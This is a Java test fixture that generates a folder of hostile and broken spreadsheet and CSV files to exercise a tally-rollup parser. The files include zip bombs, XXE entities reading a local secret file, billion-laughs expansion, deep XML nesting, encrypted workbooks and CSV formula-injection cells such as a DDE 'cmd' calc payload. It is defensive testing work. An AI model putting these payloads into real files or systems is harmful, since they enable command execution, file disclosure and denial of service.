package org.tallyrollup.job;

import java.io.BufferedOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.Writer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.UUID;
import java.util.zip.Deflater;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import org.apache.poi.hssf.record.crypto.Biff8EncryptionKey;
import org.apache.poi.hssf.usermodel.HSSFWorkbook;
import org.apache.poi.poifs.crypt.EncryptionInfo;
import org.apache.poi.poifs.crypt.EncryptionMode;
import org.apache.poi.poifs.crypt.Encryptor;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.apache.poi.ss.usermodel.CellStyle;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.ss.usermodel.Workbook;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;

/**
 * A period folder of hostile and broken files beside a few good ones, generated (the big
 * ones are never committed): zip bombs, an enormous shared-strings part, XXE and entity
 * expansion, deep nesting, an .xls of too many cells, encrypted workbooks, empty and
 * random files, files of another type, a CSV of one 64 MB line and CSVs of a million
 * empty lines, NUL bytes, invalid UTF-8, overlong codes, sheet names and paths — and text
 * that looks like a formula.
 */
final class HostileInput {

	static final String PERIOD = "2024-06";

	/** What a file must end as. */
	enum Outcome {

		/** An F1 finding. */
		UNREADABLE,
		/** Read (its sheet may have no header, and be skipped). */
		READ

	}

	/** A unit name and cell texts a spreadsheet program would take for a formula. */
	static final String FORMULA_NAME = "=HYPERLINK(\"http://example.invalid/?q=\"&A1,\"点此查看\")";

	static final String FORMULA_CODE = "@0199";

	static final String COMMAND_NAME = "+cmd|' /C calc'!A0";

	static final String AT_FORMULA = "@SUM(1)";

	static final String MINUS_FORMULA = "-2+3";

	static final String FORMULA_FILE = "=cmd|' calc'!A0.csv";

	private static final String MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";

	private static final String REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

	static final String HEADER = "单位编码,单位名称,党支部数,检视问题数,整改措施数,已完成整改数,备注";

	private final Path input;

	private final Path period;

	private final Map<String, Outcome> outcomes = new LinkedHashMap<>();

	/** The good rows: code → counts (branches, issues, measures, completed). */
	private final Map<String, long[]> accepted = new LinkedHashMap<>();

	private final String secret = "TOP-SECRET-" + UUID.randomUUID();

	private final Random random = new Random(20240601);

	private HostileInput(Path input) {
		this.input = input;
		this.period = input.resolve(PERIOD);
	}

	static HostileInput create(Path input) throws Exception {
		HostileInput hostile = new HostileInput(input);
		hostile.write();
		return hostile;
	}

	Map<String, Outcome> outcomes() {
		return this.outcomes;
	}

	/** The counts of every row that must be accepted, by unit code. */
	Map<String, long[]> accepted() {
		return this.accepted;
	}

	/** A local file's content that must never reach the output (XXE). */
	String secret() {
		return this.secret;
	}

	Path secretFile() {
		return this.input.getParent().resolve("secret.txt");
	}

	private void write() throws Exception {
		Files.createDirectories(this.period);
		Files.writeString(secretFile(), this.secret);
		registry();
		goodFiles();
		formulaText();
		zipBombs();
		xmlAttacks();
		encrypted();
		emptyAndRandom();
		wrongTypes();
		csvExtremes();
		overlong();
	}

	private void registry() throws IOException {
		StringBuilder units = new StringBuilder("单位编码,单位名称,上级单位编码\n00,测试总单位,\n");
		for (int i = 1; i <= 16; i++) {
			units.append(code(i)).append(",第").append(i).append("单位,00\n");
		}
		units.append(FORMULA_CODE).append(",\"").append(FORMULA_NAME.replace("\"", "\"\"")).append("\",00\n");
		Files.writeString(this.input.resolve("units.csv"), units.toString());
	}

	static String code(int i) {
		return String.format("00%02d", i);
	}

	private void goodFiles() throws IOException {
		List<String> rows = new ArrayList<>(List.of("某单位统计表", HEADER));
		for (int i = 1; i <= 4; i++) {
			rows.add(goodRow(i));
		}
		csv("good/good.csv", rows, Outcome.READ);
		workbook(new XSSFWorkbook(), "good/good.xlsx", 5, 8);
		workbook(new HSSFWorkbook(), "good/good.xls", 9, 10);
		// invalid UTF-8 in a remark of an otherwise UTF-8 file: read as UTF-8
		List<String> broken = new ArrayList<>(List.of(HEADER, goodRow(11) + "，备注", goodRow(12)));
		byte[] bytes = (String.join("\r\n", broken) + "\r\n").getBytes(StandardCharsets.UTF_8);
		byte[] withBad = new byte[bytes.length + 2];
		int at = indexOf(bytes, "，备注".getBytes(StandardCharsets.UTF_8));
		System.arraycopy(bytes, 0, withBad, 0, at);
		withBad[at] = (byte) 0xC3;
		withBad[at + 1] = (byte) 0x28;
		System.arraycopy(bytes, at, withBad, at + 2, bytes.length - at);
		file("broken-text/invalid-utf8.csv", withBad, Outcome.READ);
		// NUL bytes in a file that is otherwise a good CSV: not text (SPEC §2.3), so F1
		String nul = HEADER + "\r\n\0" + code(13) + ",第13单位,\0" + "1,13,14,13,\r\n";
		file("broken-text/nul-bytes.csv", nul.getBytes(StandardCharsets.UTF_8), Outcome.UNREADABLE);
	}

	private String goodRow(int i) {
		long[] counts = { 1, i, i + 1, i };
		this.accepted.put(code(i), counts);
		return code(i) + ",第" + i + "单位," + counts[0] + "," + counts[1] + "," + counts[2] + "," + counts[3] + ",";
	}

	private void workbook(Workbook workbook, String name, int from, int to) throws IOException {
		try (workbook) {
			Sheet sheet = workbook.createSheet("统计表");
			String[] header = HEADER.split(",");
			Row top = sheet.createRow(0);
			for (int c = 0; c < header.length; c++) {
				top.createCell(c).setCellValue(header[c]);
			}
			for (int i = from; i <= to; i++) {
				String[] cells = goodRow(i).split(",", -1);
				Row row = sheet.createRow(i - from + 1);
				row.createCell(0).setCellValue(cells[0]);
				row.createCell(1).setCellValue(cells[1]);
				for (int c = 2; c <= 5; c++) {
					row.createCell(c).setCellValue(Long.parseLong(cells[c]));
				}
			}
			Path file = target(name);
			try (OutputStream out = Files.newOutputStream(file)) {
				workbook.write(out);
			}
		}
		this.outcomes.put(name, Outcome.READ);
	}

	/**
	 * Text that looks like a formula: in the registry (a unit's name and code), in a
	 * tally's file name, a unit name differing from the registry's (W1), a unit code not
	 * in the registry (R2) and a count cell (R3).
	 */
	private void formulaText() throws IOException {
		this.accepted.put(FORMULA_CODE, new long[] { 1, 0, 0, 0 });
		this.accepted.put(code(14), new long[] { 1, 2, 2, 2 });
		csv(FORMULA_FILE,
				List.of(HEADER, FORMULA_CODE + ",\"" + FORMULA_NAME.replace("\"", "\"\"") + "\",1,0,0,0,",
						code(14) + "," + COMMAND_NAME + ",1,2,2,2,", MINUS_FORMULA + ",x,1," + AT_FORMULA + ",1,1,"),
				Outcome.READ);
	}

	private void zipBombs() throws IOException {
		// a sheet that inflates to 1.1 GB of blanks: refused by the inflate ratio
		Map<String, EntryContent> parts = parts("Sheet1", null);
		parts.put("xl/worksheets/sheet1.xml", (out) -> {
			out.write(("<worksheet xmlns=\"" + MAIN + "\"><sheetData>").getBytes(StandardCharsets.UTF_8));
			byte[] blanks = new byte[1 << 20];
			Arrays.fill(blanks, (byte) ' ');
			for (int i = 0; i < 1100; i++) {
				out.write(blanks);
			}
			out.write("</sheetData></worksheet>".getBytes(StandardCharsets.UTF_8));
		});
		xlsx("bombs/zip-bomb.xlsx", parts, Outcome.UNREADABLE);
		// a shared-strings part of three million distinct strings (about 70 MB of XML)
		Map<String, EntryContent> strings = parts("Sheet1", sheetXml(row(1, "s:0", "单位名称")));
		strings.put("xl/sharedStrings.xml", (out) -> {
			Writer writer = new java.io.OutputStreamWriter(out, StandardCharsets.UTF_8);
			writer.write("<sst xmlns=\"" + MAIN + "\">");
			for (int i = 0; i < 3_000_000; i++) {
				writer.write("<si><t>");
				writer.write(Long.toHexString(this.random.nextLong()));
				writer.write("</t></si>");
			}
			writer.write("</sst>");
			writer.flush();
		});
		xlsx("bombs/huge-shared-strings.xlsx", strings, Outcome.UNREADABLE);
		// a relationships part parsed as a DOM: 30 MB of random relationships
		Map<String, EntryContent> rels = parts("Sheet1", sheetXml(header()));
		rels.put("xl/_rels/workbook.xml.rels", (out) -> {
			Writer writer = new java.io.OutputStreamWriter(out, StandardCharsets.UTF_8);
			writer.write("<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
					+ "<Relationship Id=\"rId1\" Type=\"" + REL + "/worksheet\" Target=\"worksheets/sheet1.xml\"/>");
			for (int i = 0; i < 300_000; i++) {
				writer.write("<Relationship Id=\"x" + Long.toHexString(this.random.nextLong()) + "\" Type=\"" + REL
						+ "/image\" Target=\"" + Long.toHexString(this.random.nextLong()) + ".png\"/>");
			}
			writer.write("</Relationships>");
			writer.flush();
		});
		xlsx("bombs/huge-relationships.xlsx", rels, Outcome.UNREADABLE);
		// elements nested two million deep inside a cell
		Map<String, EntryContent> deep = parts("Sheet1", null);
		deep.put("xl/worksheets/sheet1.xml", (out) -> {
			Writer writer = new java.io.OutputStreamWriter(out, StandardCharsets.UTF_8);
			writer.write("<worksheet xmlns=\"" + MAIN + "\"><sheetData>" + header() + "<row r=\"2\"><c r=\"A2\">");
			List<String> names = new ArrayList<>();
			for (int i = 0; i < 2_000_000; i++) {
				String name = "e" + Integer.toHexString(this.random.nextInt());
				names.add(name);
				writer.write("<" + name + ">");
			}
			for (int i = names.size() - 1; i >= 0; i--) {
				writer.write("</" + names.get(i) + ">");
			}
			writer.write("</c></row></sheetData></worksheet>");
			writer.flush();
		});
		xlsx("bombs/deep-nesting.xlsx", deep, Outcome.UNREADABLE);
		// an .xls of 600,000 blank cells: a small file, some sixty megabytes once loaded
		try (HSSFWorkbook workbook = new HSSFWorkbook()) {
			Sheet sheet = workbook.createSheet("统计表");
			CellStyle style = workbook.createCellStyle();
			for (int r = 0; r < 65_536; r++) {
				Row row = sheet.createRow(r);
				for (int c = 0; c < 10; c++) {
					row.createCell(c).setCellStyle(style);
				}
			}
			try (OutputStream out = Files.newOutputStream(target("bombs/many-cells.xls"))) {
				workbook.write(out);
			}
		}
		this.outcomes.put("bombs/many-cells.xls", Outcome.UNREADABLE);
	}

	private void xmlAttacks() throws IOException {
		String xxe = "<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM \"" + secretFile().toUri() + "\">]>";
		xlsx("xml/xxe-sheet.xlsx",
				parts("Sheet1", xxe + sheetXml(header() + row(2, "0001", "&xxe;", "1", "1", "2", "1"))),
				Outcome.UNREADABLE);
		Map<String, EntryContent> shared = parts("Sheet1",
				sheetXml(header() + "<row r=\"2\"><c r=\"A2\" t=\"inlineStr\"><is><t>0002</t></is></c>"
						+ "<c r=\"B2\" t=\"s\"><v>0</v></c></row>"));
		shared.put("xl/sharedStrings.xml",
				text(xxe.replace("worksheet", "sst") + "<sst xmlns=\"" + MAIN + "\"><si><t>&xxe;</t></si></sst>"));
		xlsx("xml/xxe-shared-strings.xlsx", shared, Outcome.UNREADABLE);
		Map<String, EntryContent> types = parts("Sheet1", sheetXml(header()));
		types.put("[Content_Types].xml", text("<!DOCTYPE Types [<!ENTITY xxe SYSTEM \"" + secretFile().toUri()
				+ "\">]><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
				+ "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
				+ "<Default Extension=\"xml\" ContentType=\"&xxe;\"/></Types>"));
		xlsx("xml/xxe-content-types.xlsx", types, Outcome.UNREADABLE);
		// an external DTD is never fetched: the sheet is read as if it had none
		xlsx("xml/xxe-external-dtd.xlsx",
				parts("Sheet1", "<!DOCTYPE worksheet SYSTEM \"" + secretFile().toUri() + "\">" + sheetXml(header())),
				Outcome.READ);
		StringBuilder laughs = new StringBuilder("<!DOCTYPE worksheet [<!ENTITY lol0 \"lol\">");
		for (int i = 1; i <= 9; i++) {
			laughs.append("<!ENTITY lol").append(i).append(" \"");
			laughs.append(("&lol" + (i - 1) + ";").repeat(10)).append("\">");
		}
		laughs.append("]>");
		xlsx("xml/billion-laughs.xlsx",
				parts("Sheet1", laughs + sheetXml(header() + row(2, "0003", "&lol9;", "1", "1", "2", "1"))),
				Outcome.UNREADABLE);
		Map<String, EntryContent> laughStrings = parts("Sheet1",
				sheetXml(header() + "<row r=\"2\"><c r=\"A2\" t=\"s\"><v>0</v></c></row>"));
		laughStrings.put("xl/sharedStrings.xml", text(laughs.toString().replace("worksheet", "sst") + "<sst xmlns=\""
				+ MAIN + "\"><si><t>&lol9;</t></si></sst>"));
		xlsx("xml/billion-laughs-shared-strings.xlsx", laughStrings, Outcome.UNREADABLE);
	}

	private void encrypted() throws Exception {
		EncryptionInfo info = new EncryptionInfo(EncryptionMode.agile);
		Encryptor encryptor = info.getEncryptor();
		encryptor.confirmPassword("密码123");
		try (POIFSFileSystem fs = new POIFSFileSystem(); XSSFWorkbook workbook = new XSSFWorkbook()) {
			workbook.createSheet("统计表").createRow(0).createCell(0).setCellValue("单位编码");
			try (OutputStream out = encryptor.getDataStream(fs)) {
				workbook.write(out);
			}
			try (OutputStream out = Files.newOutputStream(target("locked/encrypted.xlsx"))) {
				fs.writeFilesystem(out);
			}
		}
		this.outcomes.put("locked/encrypted.xlsx", Outcome.UNREADABLE);
		Biff8EncryptionKey.setCurrentUserPassword("密码123");
		try (HSSFWorkbook workbook = new HSSFWorkbook();
				OutputStream out = Files.newOutputStream(target("locked/encrypted.xls"))) {
			workbook.createSheet("统计表").createRow(0).createCell(0).setCellValue("单位编码");
			workbook.write(out);
		}
		finally {
			Biff8EncryptionKey.setCurrentUserPassword(null);
		}
		this.outcomes.put("locked/encrypted.xls", Outcome.UNREADABLE);
	}

	private void emptyAndRandom() throws IOException {
		file("empty/empty.csv", new byte[0], Outcome.UNREADABLE);
		file("empty/empty.xls", new byte[0], Outcome.UNREADABLE);
		file("empty/empty.xlsx", new byte[0], Outcome.UNREADABLE);
		byte[] noise = new byte[200_000];
		this.random.nextBytes(noise);
		// random bytes named .csv are not text (SPEC §2.3)
		file("random/random.csv", noise, Outcome.UNREADABLE);
		file("random/random.xls", noise, Outcome.UNREADABLE);
		file("random/random.xlsx", noise, Outcome.UNREADABLE);
		byte[] ole = noise.clone();
		byte[] magic = { (byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1, 0x1A, (byte) 0xE1 };
		System.arraycopy(magic, 0, ole, 0, magic.length);
		file("random/random-ole2.xls", ole, Outcome.UNREADABLE);
		byte[] zip = noise.clone();
		zip[0] = 'P';
		zip[1] = 'K';
		zip[2] = 3;
		zip[3] = 4;
		file("random/random-zip.xlsx", zip, Outcome.UNREADABLE);
	}

	private void wrongTypes() throws IOException {
		csvAs("types/really-a-csv.xlsx");
		csvAs("types/really-a-csv.xls");
		Path zip = target("types/unrelated.xlsx");
		try (ZipOutputStream out = new ZipOutputStream(Files.newOutputStream(zip))) {
			out.putNextEntry(new ZipEntry("readme.txt"));
			out.write("just an archive".getBytes(StandardCharsets.UTF_8));
			out.closeEntry();
		}
		this.outcomes.put("types/unrelated.xlsx", Outcome.UNREADABLE);
	}

	private void csvAs(String name) throws IOException {
		file(name, (HEADER + "\r\n0001,第1单位,1,1,2,1,\r\n").getBytes(StandardCharsets.UTF_8), Outcome.UNREADABLE);
	}

	private void csvExtremes() throws IOException {
		try (OutputStream out = new BufferedOutputStream(Files.newOutputStream(target("csv/one-line-64mb.csv")))) {
			out.write((HEADER + "\n").getBytes(StandardCharsets.UTF_8));
			byte[] block = new byte[1 << 20];
			Arrays.fill(block, (byte) 'x');
			for (int i = 0; i < 64; i++) {
				out.write(block);
			}
		}
		this.outcomes.put("csv/one-line-64mb.csv", Outcome.UNREADABLE);
		byte[] lines = new byte[3_000_000];
		Arrays.fill(lines, (byte) '\n');
		file("csv/empty-lines.csv", lines, Outcome.READ);
		byte[] head = (HEADER + "\n").getBytes(StandardCharsets.UTF_8);
		byte[] afterHeader = Arrays.copyOf(head, head.length + 1_000_000);
		Arrays.fill(afterHeader, head.length, afterHeader.length, (byte) '\n');
		file("csv/empty-lines-after-header.csv", afterHeader, Outcome.READ);
		byte[] tooMany = Arrays.copyOf(head, head.length + 1_200_000 + 30);
		Arrays.fill(tooMany, head.length, tooMany.length - 30, (byte) '\n');
		byte[] last = "0004,第4单位,1,1,1,1,\n".getBytes(StandardCharsets.UTF_8);
		System.arraycopy(last, 0, tooMany, tooMany.length - 30, last.length);
		file("csv/too-many-lines.csv", Arrays.copyOf(tooMany, tooMany.length - 30 + last.length), Outcome.UNREADABLE);
	}

	private void overlong() throws IOException {
		// a code, a name and a sheet name far beyond any column
		csv("long/long-code.csv", List.of(HEADER, "9".repeat(5000) + "," + "长".repeat(300_000) + ",1,1,1,1,"),
				Outcome.READ);
		xlsx("long/long-sheet-name.xlsx",
				parts("表".repeat(2000), sheetXml(header() + row(2, "0099", "x", "1", "1", "1", "1"))), Outcome.READ);
		StringBuilder deep = new StringBuilder("long");
		for (int i = 0; i < 24; i++) {
			deep.append('/').append(String.valueOf((char) ('a' + i)).repeat(90));
		}
		csv(deep + "/deep.csv", List.of(HEADER, "0098,x,1,1,1,1,"), Outcome.READ);
	}

	// ---- writing ---------------------------------------------------------------

	private Path target(String name) throws IOException {
		Path file = this.period.resolve(name);
		Files.createDirectories(file.getParent());
		return file;
	}

	private void file(String name, byte[] bytes, Outcome outcome) throws IOException {
		Files.write(target(name), bytes);
		this.outcomes.put(name, outcome);
	}

	private void csv(String name, List<String> rows, Outcome outcome) throws IOException {
		file(name, (String.join("\r\n", rows) + "\r\n").getBytes(StandardCharsets.UTF_8), outcome);
	}

	private void xlsx(String name, Map<String, EntryContent> entries, Outcome outcome) throws IOException {
		try (ZipOutputStream zip = new ZipOutputStream(new BufferedOutputStream(Files.newOutputStream(target(name))))) {
			zip.setLevel(Deflater.BEST_SPEED);
			for (Map.Entry<String, EntryContent> entry : entries.entrySet()) {
				zip.putNextEntry(new ZipEntry(entry.getKey()));
				entry.getValue().write(zip);
				zip.closeEntry();
			}
		}
		this.outcomes.put(name, outcome);
	}

	/** The parts of a one-sheet workbook; {@code sheet} null leaves the sheet out. */
	private static Map<String, EntryContent> parts(String sheetName, String sheet) {
		Map<String, EntryContent> parts = new LinkedHashMap<>();
		parts.put("[Content_Types].xml",
				text("<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
						+ "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
						+ "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
						+ "<Override PartName=\"/xl/workbook.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml\"/>"
						+ "<Override PartName=\"/xl/worksheets/sheet1.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml\"/>"
						+ "<Override PartName=\"/xl/sharedStrings.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml\"/>"
						+ "</Types>"));
		parts.put("_rels/.rels",
				text("<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
						+ "<Relationship Id=\"rId1\" Type=\"" + REL
						+ "/officeDocument\" Target=\"xl/workbook.xml\"/></Relationships>"));
		parts.put("xl/workbook.xml", text("<workbook xmlns=\"" + MAIN + "\" xmlns:r=\"" + REL
				+ "\"><sheets><sheet name=\"" + sheetName + "\" sheetId=\"1\" r:id=\"rId1\"/></sheets></workbook>"));
		parts.put("xl/_rels/workbook.xml.rels",
				text("<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
						+ "<Relationship Id=\"rId1\" Type=\"" + REL + "/worksheet\" Target=\"worksheets/sheet1.xml\"/>"
						+ "<Relationship Id=\"rId2\" Type=\"" + REL + "/sharedStrings\" Target=\"sharedStrings.xml\"/>"
						+ "</Relationships>"));
		parts.put("xl/sharedStrings.xml", text("<sst xmlns=\"" + MAIN + "\"/>"));
		if (sheet != null) {
			parts.put("xl/worksheets/sheet1.xml", text(sheet));
		}
		return parts;
	}

	private static String sheetXml(String rows) {
		return "<worksheet xmlns=\"" + MAIN + "\"><sheetData>" + rows + "</sheetData></worksheet>";
	}

	private static String header() {
		return row(1, HEADER.split(","));
	}

	/** A row of inline strings; a cell "s:N" refers to shared string N instead. */
	private static String row(int number, String... cells) {
		StringBuilder row = new StringBuilder("<row r=\"" + number + "\">");
		for (int c = 0; c < cells.length; c++) {
			String ref = (char) ('A' + c) + Integer.toString(number);
			if (cells[c].startsWith("s:")) {
				row.append("<c r=\"")
					.append(ref)
					.append("\" t=\"s\"><v>")
					.append(cells[c].substring(2))
					.append("</v></c>");
			}
			else {
				row.append("<c r=\"")
					.append(ref)
					.append("\" t=\"inlineStr\"><is><t>")
					.append(cells[c])
					.append("</t></is></c>");
			}
		}
		return row.append("</row>").toString();
	}

	private static EntryContent text(String xml) {
		return (out) -> out.write(xml.getBytes(StandardCharsets.UTF_8));
	}

	private static int indexOf(byte[] bytes, byte[] part) {
		outer: for (int i = 0; i <= bytes.length - part.length; i++) {
			for (int j = 0; j < part.length; j++) {
				if (bytes[i + j] != part[j]) {
					continue outer;
				}
			}
			return i;
		}
		throw new IllegalArgumentException("not found");
	}

	/** Writes a zip entry's content. */
	private interface EntryContent {

		void write(OutputStream out) throws IOException;

	}

}
